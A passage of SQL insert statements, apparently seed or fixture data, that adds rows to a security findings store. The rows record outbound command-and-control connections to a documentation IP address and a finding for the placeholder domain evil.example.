  (3, 501, 1, '2026-11-01 10:15:00', '2026-11-01 10:05:00', '2026-11-01 10:10:00', 'f1', 'C&C', v4('10.0.1.5'), v4('203.0.113.66'),
    443, 'OUTBOUND', 1, false),
  (3, 502, 1, '2026-11-01 10:45:00', '2026-11-01 10:05:00', '2026-11-01 10:40:00', 'f1', 'C&C', v4('10.0.1.5'), v4('203.0.113.66'),
    443, 'OUTBOUND', 5, false);
INSERT INTO store.finding (object_id, row_no, context_id, updated_at, event_first_seen, event_last_seen, finding_id, title, private4,
  domain_name, count, utf8_escaped) VALUES
  (3, 503, 2, '2026-11-01 10:20:00', '2026-11-01 10:05:00', '2026-11-01 10:06:00', 'f2', 'names', v4('10.0.1.5'), 'evil.example', 3, false);
